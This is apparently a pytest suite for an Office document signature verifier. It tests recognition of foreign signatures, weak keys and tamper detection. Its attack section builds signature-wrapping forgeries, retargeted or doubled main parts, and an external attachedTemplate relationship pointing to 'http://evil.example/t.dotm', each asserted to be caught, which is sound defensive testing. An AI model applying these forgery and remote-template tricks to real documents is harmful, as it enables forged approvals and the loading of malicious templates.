from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable

import pytest
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from hypothesis import given, settings
from hypothesis import strategies as st

from assessor_app.signing.archives import read_archive, write_archive
from assessor_app.signing.office import verify_office
from assessor_app.signing.office.package import in_order
from assessor_app.signing.trust import TrustList
from assessor_app.signing.verdicts import Status
from tests.signing import foreign
from tests.signing.builders import (
    NOW,
    Society,
    excel_file,
    names,
    part,
    rezipped,
    signed_excel_of_two,
    signed_word,
    word_file,
)
from tests.signing.foreign import Style

NOTHING_FREE = Style(skip=lambda _name: False)
TYPES, ROOT, MAIN, SIGNATURE = "[Content_Types].xml", "_rels/.rels", "word/document.xml", "_xmlsignatures/sig1.xml"
TEMPLATE = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def bare_word() -> bytes:
    """Without thumbnail, custom XML and properties, so that nothing need be left out."""
    dropped = [name for name in names(word_file()) if name.startswith(("docProps/", "customXml/"))]
    data = rezipped(word_file(), dict.fromkeys(dropped))
    for rels in (ROOT, "word/_rels/document.xml.rels"):
        kept = re.sub(rb"<Relationship [^>]*(docProps|customXml)[^>]*/>", b"", part(data, rels))
        data = rezipped(data, {rels: kept})
    types = re.sub(rb"<Override [^>]*(docProps|customXml)[^>]*/>", b"", part(data, TYPES))
    return rezipped(data, {TYPES: types})


def pinned(who: foreign.Person) -> TrustList:
    return TrustList(0, None, who.chain[-1:])


def ours_changed(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """A file of ours with parts replaced, in our own archive form, so that only the signature can tell."""
    archive = read_archive(data)
    parts = {name: archive.read(name) for name in archive.names}
    for name, content in changes.items():
        if content is None:
            del parts[name]
        else:
            parts[name] = content
    return write_archive([(name, parts[name]) for name in in_order(parts)])


# --- files of others --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("digest", ["sha1", "sha256", "sha384", "sha512"])
@pytest.mark.parametrize("kind", ["rsa", "p256", "p384"])
def test_that_signatures_of_others_are_recognised(digest: str, kind: str) -> None:
    curve = {"p256": ec.SECP256R1(), "p384": ec.SECP384R1()}.get(kind)
    who = foreign.person(key=ec.generate_private_key(curve) if curve else None)
    verdict = verify_office(foreign.sign(bare_word(), who, Style(digest=digest)), pinned(who), NOW)
    assert verdict.status is Status.VALID
    assert [problem.code for problem in verdict.problems] == (["weak_digest"] if digest == "sha1" else [])
    assert (verdict.signers[0].name, verdict.signers[0].role) == ("Jane Foreign", "Reviewer")


@pytest.mark.parametrize(
    "style",
    [
        Style(suffix="_8f1c"),
        Style(by_type=True),
        Style(xades=False),
        Style(signing_certificate=False),
        Style(folder="package/services"),
        Style(certificates_reversed=True),
    ],
    ids=["unique ids", "relationships by type", "no XAdES", "no certificate named", "another folder", "root first"],
)
def test_that_their_ways_are_understood(style: Style) -> None:
    root = foreign.person("Root", authority=True)
    who = foreign.person(issuer=root)
    verdict = verify_office(foreign.sign(bare_word(), who, style), pinned(who), NOW)
    assert (verdict.status, verdict.signers[0].name) == (Status.VALID, "Jane Foreign")


STRICT = {
    b"http://schemas.openxmlformats.org/officeDocument/2006/relationships": b"http://purl.oclc.org/ooxml/officeDocument/relationships",
    b"http://schemas.openxmlformats.org/wordprocessingml/2006/main": b"http://purl.oclc.org/ooxml/wordprocessingml/main",
    b"http://schemas.openxmlformats.org/spreadsheetml/2006/main": b"http://purl.oclc.org/ooxml/spreadsheetml/main",
    b"http://schemas.openxmlformats.org/drawingml/2006/main": b"http://purl.oclc.org/ooxml/drawingml/main",
}


def strict(data: bytes) -> bytes:
    """The same in the namespaces of strict Office Open XML (ISO/IEC 29500-1)."""
    changed: dict[str, bytes | None] = {}
    for name in names(data):
        content = part(data, name).replace(b"/relationships/extended-properties", b"/relationships/extendedProperties")
        for transitional, word in STRICT.items():
            content = content.replace(transitional, word)
        changed[name] = content
    return rezipped(data, changed)


@pytest.mark.parametrize("by_type", [False, True])
@pytest.mark.parametrize(("kind", "main"), [("word", MAIN), ("excel", "xl/workbook.xml")])
def test_that_strict_files_of_others_are_judged_like_any(kind: str, main: str, *, by_type: bool) -> None:
    who = foreign.person(key=ec.generate_private_key(ec.SECP256R1()))
    file = strict(bare_word() if kind == "word" else excel_file())
    assert b"purl.oclc.org" in part(file, main)
    assert verify_office(file, pinned(who), NOW).status is Status.UNSIGNED
    signed = foreign.sign(file, who, Style(digest="sha384", by_type=by_type))
    verdict = verify_office(signed, pinned(who), NOW)
    assert (verdict.status, verdict.problems) == (Status.VALID, ())
    changed = rezipped(signed, {main: part(signed, main).replace(b"purl.oclc.org", b"purl.oclc.net", 1)})
    assert verify_office(changed, pinned(who), NOW).status is Status.INVALID


def test_that_two_of_their_signatures_are_told_apart() -> None:
    one, two = foreign.person("One"), foreign.person("Two")
    data = foreign.sign(foreign.sign(bare_word(), one), two, Style(suffix="_2"))
    verdict = verify_office(data, pinned(one), NOW)
    assert [(signer.name, signer.status) for signer in verdict.signers] == [
        ("One", Status.VALID),
        ("Two", Status.UNKNOWN_SIGNER),
    ]
    assert verdict.status is Status.UNKNOWN_SIGNER


def test_that_what_they_leave_unsigned_is_listed() -> None:
    who = foreign.person()
    verdict = verify_office(
        foreign.sign(word_file(), who, Style(skip=lambda name: "thumbnail" in name)), pinned(who), NOW
    )
    assert verdict.status is Status.PARTIAL
    assert not verdict.whole
    assert {problem.part for problem in verdict.problems} >= {"docProps/thumbnail.jpeg"}
    free = {"docProps/core.xml", "docProps/app.xml"}
    data = foreign.sign(bare_word(), who, Style(skip=lambda name: name in free))
    assert verify_office(data, pinned(who), NOW).status is Status.VALID


def test_that_no_content_types_is_partial() -> None:
    who = foreign.person()
    verdict = verify_office(foreign.sign(bare_word(), who, Style(content_types=False)), pinned(who), NOW)
    assert (verdict.status, {one.code for one in verdict.problems}) == (Status.PARTIAL, {"content_type_uncovered"})


def test_that_a_signer_we_do_not_know_is_not_called_broken(trust: TrustList) -> None:
    verdict = verify_office(foreign.sign(bare_word(), foreign.person()), trust, NOW)
    assert verdict.status is Status.UNKNOWN_SIGNER
    assert verdict.whole


def test_that_what_is_unsupported_is_named() -> None:
    data = foreign.sign(bare_word(), foreign.person())
    for old, new in (
        (b"xmldsig-more#rsa-sha256", b"xmldsig-more#rsa-whirlpool"),
        (b'<DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"', b'<DigestMethod Algorithm="urn:gost"'),
        (foreign.C14N.encode(), b"http://www.w3.org/2010/xml-c14n2"),
    ):
        changed = part(data, SIGNATURE).replace(old, new, 1)
        verdict = verify_office(rezipped(data, {SIGNATURE: changed}), TrustList(0, None, ()), NOW)
        assert verdict.status is Status.UNSUPPORTED
        assert (
            verdict.problems[0]
            .facts["algorithm"]
            .encode()
            .endswith(new.removeprefix(b'<DigestMethod Algorithm="').strip(b'"'))
        )


@pytest.mark.parametrize(("bits", "exponent", "codes"), [(1024, 65537, ["weak_digest"]), (2048, 3, [])])
def test_that_the_short_keys_of_old_cards_are_recognised_and_called_weak(
    bits: int, exponent: int, codes: list[str]
) -> None:
    who = foreign.person(key=rsa.generate_private_key(exponent, bits))
    verdict = verify_office(foreign.sign(bare_word(), who), pinned(who), NOW)
    assert verdict.status is Status.VALID
    assert [one.code for one in verdict.problems] == codes


def test_that_a_curve_nobody_should_use_is_named() -> None:
    who = foreign.person(key=ec.generate_private_key(ec.SECP224R1()))
    verdict = verify_office(foreign.sign(bare_word(), who), pinned(who), NOW)
    assert (verdict.status, verdict.problems[0].code) == (Status.UNSUPPORTED, "key_refused")


def test_that_a_part_listed_over_and_over_is_no_way_to_keep_us_busy() -> None:
    who = foreign.person()
    data = foreign.sign(bare_word(), who, Style(repeated=6))
    verdict = verify_office(data, pinned(who), NOW)
    assert (verdict.status, verdict.problems[0].code) == (Status.INVALID, "signature_malformed")
    assert verify_office(foreign.sign(bare_word(), who, Style(repeated=2)), pinned(who), NOW).status is Status.VALID


def test_that_an_unsigned_file_is_unsigned(trust: TrustList) -> None:
    for data in (word_file(), excel_file()):
        verdict = verify_office(data, trust, NOW)
        assert (verdict.status, verdict.signers) == (Status.UNSIGNED, ())


# --- attacks that Office and LibreOffice call valid, or that research has shown -------------------------------------------------


def with_override(data: bytes, name: str, kind: str) -> bytes:
    row = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'.encode()
    return part(data, TYPES).replace(b"</Types>", row)


def retargeted(data: bytes) -> bytes:
    """Another main part, the signed one left in place as a decoy."""
    rels = part(data, ROOT).replace(b"word/document.xml", b"word/other.xml")
    other = part(data, MAIN).replace(b"64.5707", b"95.0000")
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return rezipped(data, {ROOT: rels, "word/other.xml": other, TYPES: with_override(data, "word/other.xml", kind)})


def second_main(data: bytes) -> bytes:
    main = re.search(rb"<Relationship [^>]*/officeDocument\"[^>]*/>", part(data, ROOT))
    assert main
    doubled = re.sub(rb'Id="[^"]*"', b'Id="rId99"', main.group()).replace(b"word/document.xml", b"word/other.xml")
    rels = part(data, ROOT).replace(main.group(), doubled + main.group())
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    types = with_override(data, "word/other.xml", kind)
    return rezipped(data, {ROOT: rels, "word/other.xml": part(data, MAIN), TYPES: types})


def added_part(data: bytes) -> bytes:
    return rezipped(data, {"word/footer9.xml": b"<a/>"})


def added_relationship(data: bytes) -> bytes:
    rels = "word/_rels/document.xml.rels"
    row = (
        b'<Relationship Id="rIdX" Type="' + TEMPLATE + b'" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    )
    return rezipped(data, {rels: part(data, rels).replace(b"</Relationships>", row + b"</Relationships>")})


def added_rels(data: bytes) -> bytes:
    row = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="'
        + TEMPLATE
        + b'" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return rezipped(data, {"word/_rels/settings.xml.rels": row})


def changed_type(data: bytes) -> bytes:
    old, new = b"wordprocessingml.styles+xml", b"wordprocessingml.numbering+xml"
    return rezipped(data, {TYPES: part(data, TYPES).replace(old, new)})


@pytest.mark.parametrize(
    ("attack", "status", "code"),
    [
        (added_part, Status.PARTIAL, "part_uncovered"),
        (added_relationship, Status.PARTIAL, "relationship_uncovered"),
        (added_rels, Status.PARTIAL, "relationship_uncovered"),
        (changed_type, Status.INVALID, "content_type_changed"),
        (retargeted, Status.INVALID, "main_part_uncovered"),
        (second_main, Status.INVALID, "main_part_doubled"),
    ],
)
def test_that_what_was_added_later_is_told_of_files_of_others(
    attack: Callable[[bytes], bytes], status: Status, code: str
) -> None:
    who = foreign.person()
    verdict = verify_office(attack(foreign.sign(bare_word(), who)), pinned(who), NOW)
    assert verdict.status is status
    assert code in {problem.code for problem in verdict.problems}


@pytest.mark.parametrize("attack", [added_part, added_relationship, added_rels, changed_type, retargeted, second_main])
def test_that_the_same_in_a_file_of_ours_is_invalid(society: Society, attack: Callable[[bytes], bytes]) -> None:
    attacked = attack(signed_word(society))
    with zipfile.ZipFile(io.BytesIO(attacked)) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    in_our_form = write_archive([(name, contents[name]) for name in in_order(contents)])
    for data in (attacked, in_our_form):
        assert verify_office(data, society.trust, NOW).status is Status.INVALID


def test_that_a_changed_part_is_named(society: Society) -> None:
    changed = part(signed_word(society), MAIN).replace(b"64.5707", b"95.0000")
    verdict = verify_office(ours_changed(signed_word(society), {MAIN: changed}), society.trust, NOW)
    assert verdict.status is Status.INVALID
    assert [(one.code, one.part) for one in verdict.problems] == [("part_changed", MAIN)]
    assert verdict.signers[0].status is Status.INVALID


def test_that_a_part_taken_out_is_named(society: Society) -> None:
    verdict = verify_office(ours_changed(signed_word(society), {"word/styles.xml": None}), society.trust, NOW)
    assert verdict.status is Status.INVALID
    assert ("part_missing", "word/styles.xml") in {(one.code, one.part) for one in verdict.problems}


def test_that_a_signature_taken_out_is_told(society: Society) -> None:
    two = signed_excel_of_two(society)
    rels = "_xmlsignatures/_rels/origin.sigs.rels"

    def without(name: str) -> bytes:
        kept_rels = re.sub(rb"<Relationship [^>]*" + name.encode() + rb"[^>]*/>", b"", part(two, rels))
        kept_types = re.sub(rb"<Override [^>]*" + name.encode() + rb"[^>]*/>", b"", part(two, TYPES))
        return ours_changed(two, {f"_xmlsignatures/{name}": None, rels: kept_rels, TYPES: kept_types})

    first_out = verify_office(without("sig1.xml"), society.trust, NOW)
    assert (first_out.status, first_out.problems[0].code) == (Status.INVALID, "signature_taken_out")
    second_out = without("sig2.xml")
    assert verify_office(second_out, society.trust, NOW).status is Status.VALID, "as it was before the second signed"
    counted = verify_office(second_out, society.trust, NOW, expected_signers=2)
    assert (counted.status, counted.problems[0].code) == (Status.INVALID, "signers_missing")


def test_that_a_signature_cut_off_from_its_document_is_told(society: Society) -> None:
    rels = re.sub(rb"<Relationship [^>]*origin[^>]*/>", b"", part(signed_word(society), ROOT))
    data = ours_changed(signed_word(society), {ROOT: rels})
    verdict = verify_office(data, society.trust, NOW)
    assert (verdict.status, verdict.problems[0].code) == (Status.UNSIGNED, "signature_cut_off")
    assert verify_office(data, society.trust, NOW, require_whole=True).status is Status.INVALID


def swapped_certificate(text: bytes, society: Society) -> bytes:
    other = re.search(rb"<X509Certificate>[^<]*", part(signed_excel_of_two(society), "_xmlsignatures/sig2.xml"))
    assert other
    return re.sub(rb"<X509Certificate>[^<]*", other.group(), text, count=1)


def wrapped(text: bytes, society: Society) -> bytes:
    """The signed object moved where nobody looks, a false one of the same id in its place."""
    found = re.search(rb"<Object [^>]*idPackageObject.*?</Object>", text, re.DOTALL)
    assert found
    false = found.group().replace(b"DigestValue>", b"DigestValue>A", 1)
    return text.replace(found.group(), false).replace(
        b"</Signature>", b"<Object>" + found.group() + b"</Object></Signature>"
    )


def moved(text: bytes, _society: Society) -> bytes:
    """The signed object one step deeper, where an id is still found by whoever looks everywhere."""
    return re.sub(rb"(<Object [^>]*idPackageObject.*?</Object>)", rb"<Object>\1</Object>", text, flags=re.DOTALL)


@pytest.mark.parametrize(
    ("change", "code"),
    [
        (swapped_certificate, "certificate_swapped"),
        (wrapped, "signature_ids_doubled"),
        (moved, "signature_malformed"),
        (lambda text, _: text.replace(b"<Signature ", b"<Wrap><Signature ", 1) + b"</Wrap>", "signature_malformed"),
        (lambda text, _: text.replace(b"<SignatureValue>", b"<SignedInfo/><SignatureValue>"), "signature_malformed"),
        (lambda text, _: text.replace(b"<DigestValue>", b"<DigestValue><!-- -->", 1), "signature_malformed"),
        (lambda text, _: text.replace(b"<Signature ", b"<!DOCTYPE a><Signature ", 1), "signature_malformed"),
        (lambda text, _: text.replace(b"R-7", b"R-8", 1), "signature_object_changed"),
        (lambda text, _: text.replace(b"06:30:00Z", b"05:30:00Z"), "signature_object_changed"),
        (lambda text, _: text.replace(b"assessor</xd:Claimed", b"chair</xd:Claimed"), "signature_object_changed"),
        (lambda text, _: text.replace(b"<SignatureValue>", b"<SignatureValue>A"), "signature_malformed"),
        (lambda text, _: re.sub(rb"<SignatureValue>....", b"<SignatureValue>AAAA", text), "signature_value"),
        (lambda text, _: re.sub(rb"<X509Data>.*</X509Data>", b"<X509Data></X509Data>", text), "certificate_absent"),
        (lambda text, _: re.sub(rb"<X509Certificate>....", b"<X509Certificate>AAAA", text), "certificate_malformed"),
        (lambda text, _: text.replace(b"#idOfficeObject", b"#xpointer(/)"), "signature_malformed"),
        (lambda text, _: text.replace(b"<SignatureValue>", b"<!-- x --><SignatureValue>"), "signature_malformed"),
        (lambda text, _: b"<!DOCTYPE a>" + text.split(b"\n", 1)[1], "signature_malformed"),
        (lambda text, _: b"<a/>", "signature_malformed"),
        (lambda text, _: text.replace(b"<KeyInfo>", b"<KeyInfo> "), "signature_rewritten"),
        (lambda text, _: text.replace(b'standalone="no"', b'standalone="yes"'), "signature_rewritten"),
        (lambda text, _: text.replace(b"<SignatureValue>", b"<SignatureValue>\n"), "signature_rewritten"),
        (
            lambda text, _: text.replace(b"</xd:UnsignedProperties>", b"<xd:X/></xd:UnsignedProperties>"),
            "signature_rewritten",
        ),
    ],
)
def test_that_a_forged_signature_is_told(
    society: Society, change: Callable[[bytes, Society], bytes], code: str
) -> None:
    sound = part(signed_word(society), SIGNATURE)
    changed = change(sound, society)
    assert changed != sound
    verdict = verify_office(ours_changed(signed_word(society), {SIGNATURE: changed}), society.trust, NOW)
    assert (verdict.status, verdict.problems[0].code) == (Status.INVALID, code)


def test_that_nothing_is_believed_that_stands_unsigned_beside_what_is_signed() -> None:
    """A second set of properties, a second statement: another role, another time, a purpose nobody declared."""
    who = foreign.person()
    data = foreign.sign(bare_word(), who)
    text = part(data, "_xmlsignatures/sig1.xml")
    found = re.search(rb"<Object><xd:Qual.*?</Object>", text, re.DOTALL)
    assert found
    other = (
        found.group().replace(b"idSignedProperties", b"other").replace(b"Reviewer", b"Chair").replace(b"2026", b"2020")
    )
    details = (
        b'<Object><SignatureInfoV1 xmlns="http://schemas.microsoft.com/office/2006/digsig"><SignatureComments>I approve'
    )
    details += b"</SignatureComments></SignatureInfoV1></Object>"
    beside = other + details
    before = text.replace(b"<Object", beside + b"<Object", 1)
    behind = text.removesuffix(b"</Signature>") + beside + b"</Signature>"
    for changed in (before, behind):
        verdict = verify_office(rezipped(data, {"_xmlsignatures/sig1.xml": changed}), pinned(who), NOW)
        (signer,) = verdict.signers
        assert (verdict.status, signer.role, signer.statement) == (Status.VALID, "Reviewer", "")
        assert signer.time is not None
        assert signer.time.year == 2026


def test_that_a_signature_from_another_document_does_not_fit(society: Society) -> None:
    other = signed_word(society)
    data = ours_changed(other, {SIGNATURE: part(signed_excel_of_two(society), SIGNATURE)})
    assert verify_office(data, society.trust, NOW).status is Status.INVALID


@pytest.mark.parametrize("name", [TYPES, ROOT, "word/_rels/document.xml.rels", "_xmlsignatures/_rels/origin.sigs.rels"])
def test_that_not_even_a_blank_is_free_in_a_file_of_ours(society: Society, name: str) -> None:
    data = signed_word(society)
    changed = part(data, name).replace(b"/>", b" />", 1)
    verdict = verify_office(ours_changed(data, {name: changed}), society.trust, NOW)
    assert (verdict.status, {one.code for one in verdict.problems}) == (Status.INVALID, {"part_rewritten"})


def test_that_a_file_of_ours_packed_anew_is_told(society: Society) -> None:
    verdict = verify_office(rezipped(signed_word(society)), society.trust, NOW)
    assert (verdict.status, {one.code for one in verdict.problems}) == (Status.INVALID, {"archive_rewritten"})


def test_that_properties_put_back_into_a_file_of_ours_are_told(society: Society) -> None:
    data = signed_word(society)
    core = part(word_file(), "docProps/core.xml")
    types = with_override(data, "docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml")
    kind = b"http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
    row = b'<Relationship Id="rId99" Type="' + kind + b'" Target="docProps/core.xml"/></Relationships>'
    rels = part(data, ROOT).replace(b"</Relationships>", row)
    verdict = verify_office(
        ours_changed(data, {"docProps/core.xml": core, TYPES: types, ROOT: rels}), society.trust, NOW
    )
    assert verdict.status is Status.INVALID
    assert "part_uncovered" in {one.code for one in verdict.problems}


def test_that_a_foreign_file_may_be_held_to_our_rules_and_ours_to_theirs(society: Society) -> None:
    who = foreign.person()
    data = foreign.sign(bare_word(), who)
    assert verify_office(data, pinned(who), NOW, require_whole=True).status is Status.INVALID
    weak = verify_office(foreign.sign(bare_word(), who, Style(digest="sha1")), pinned(who), NOW, require_whole=True)
    assert [one.grave for one in weak.problems if one.code == "weak_digest"] == [True]
    packed_anew = rezipped(signed_word(society))
    assert verify_office(packed_anew, society.trust, NOW, require_whole=False).status is Status.VALID


def test_that_a_damaged_part_that_nobody_signs_is_told() -> None:
    who = foreign.person()
    data = bytearray(foreign.sign(word_file(), who))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        info = archive.getinfo("docProps/core.xml")
    data[info.header_offset + 30 + len(info.filename) + 20] ^= 0xFF
    verdict = verify_office(bytes(data), pinned(who), NOW)
    assert (verdict.status, verdict.problems[0].code) == (Status.INVALID, "archive_refused")


@settings(max_examples=60)
@given(st.data())
def test_that_no_changed_byte_of_a_file_of_ours_is_accepted(society: Society, data: st.DataObject) -> None:
    sound = signed_word(society)
    at = data.draw(st.integers(0, len(sound) - 1))
    changed = bytearray(sound)
    changed[at] ^= data.draw(st.integers(1, 255))
    assert verify_office(bytes(changed), society.trust, NOW).status is not Status.VALID


@given(st.binary(max_size=300))
def test_that_no_bytes_bring_the_verifier_down(trust: TrustList, data: bytes) -> None:
    assert verify_office(data, trust, NOW).status is Status.INVALID


def test_that_the_order_of_entries_and_an_origin_with_content_are_not_free_either(society: Society) -> None:
    archive = read_archive(signed_word(society))
    parts = {name: archive.read(name) for name in archive.names}
    turned = write_archive(list(reversed(parts.items())))
    filled = ours_changed(signed_word(society), {"_xmlsignatures/origin.sigs": b"hidden"})
    for data, code in ((turned, "archive_rewritten"), (filled, "part_rewritten")):
        verdict = verify_office(data, society.trust, NOW)
        assert (verdict.status, {one.code for one in verdict.problems}) == (Status.INVALID, {code})
